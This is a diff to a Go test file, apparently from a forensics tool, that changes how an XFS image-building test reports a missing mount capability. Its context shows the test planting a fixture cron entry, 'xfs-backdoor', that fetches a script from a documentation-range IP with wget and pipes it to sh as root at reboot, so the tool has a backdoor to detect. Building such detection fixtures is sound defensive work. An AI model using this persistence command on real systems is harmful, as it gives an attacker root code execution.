@@ -9,6 +9,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"github.com/casefile-forensics/casefile/internal/testenv"
 )
 
 const (
@@ -337,7 +339,7 @@ func populateXFS(t *testing.T, image, dir string) {
 	require.NoError(t, os.MkdirAll(mnt, 0o755))
 	r := run(t, nil, "mount", "-o", "loop", image, mnt)
 	if r.code != 0 {
-		t.Skipf("skipped: cannot mount XFS here to build the image: %s", r.stderr)
+		testenv.Missing(t, "cannot mount XFS here to build the image: %s", r.stderr)
 	}
 	defer mustRun(t, "umount", mnt)
 	writeFile(t, filepath.Join(mnt, "etc/cron.d/xfs-backdoor"), "@reboot root wget -qO- http://198.51.100.7/x | sh\n", 0o644)
